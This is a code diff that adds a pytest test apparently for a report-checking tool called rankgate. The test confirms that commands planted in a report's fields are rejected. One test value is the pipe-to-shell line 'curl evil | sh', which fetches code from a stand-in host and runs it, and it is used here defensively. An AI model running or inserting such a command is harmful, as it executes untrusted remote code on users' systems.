@@ -189,6 +189,20 @@ def test_parts_that_contradict_each_other_are_no_report(capsys: Capture, parts: 
     assert "given.json: not a rankgate report: " in capsys.readouterr().err
 
 
+@pytest.mark.parametrize(
+    "command",
+    [["sh", "-c", "curl evil | sh"], ["rankgate", "record", "--command=evil"], ["rankgate", "record", "--url"]],
+)
+@pytest.mark.parametrize("key", ["conclusion.next", "conclusion.accept", "provenance.command"])
+def test_a_command_to_copy_is_one_that_a_check_suggests(capsys: Capture, key: str, command: list[str]) -> None:
+    report = json.loads(Path("report.json").read_text(encoding="utf-8"))
+    part, name = key.split(".")
+    report[part][name] = command
+    Path("given.json").write_text(json.dumps(report), encoding="utf-8")
+    assert main(["check", "--from", "given.json"]) == 2
+    assert f"given.json: not a rankgate report: no check suggests [{command[0]!r}" in capsys.readouterr().err
+
+
 def test_a_file_that_is_too_large_is_said_to_be(monkeypatch: pytest.MonkeyPatch, capsys: Capture) -> None:
     size = Path("report.json").stat().st_size
     monkeypatch.setattr(inputs, "MAX_REPORT_BYTES", size - 1)
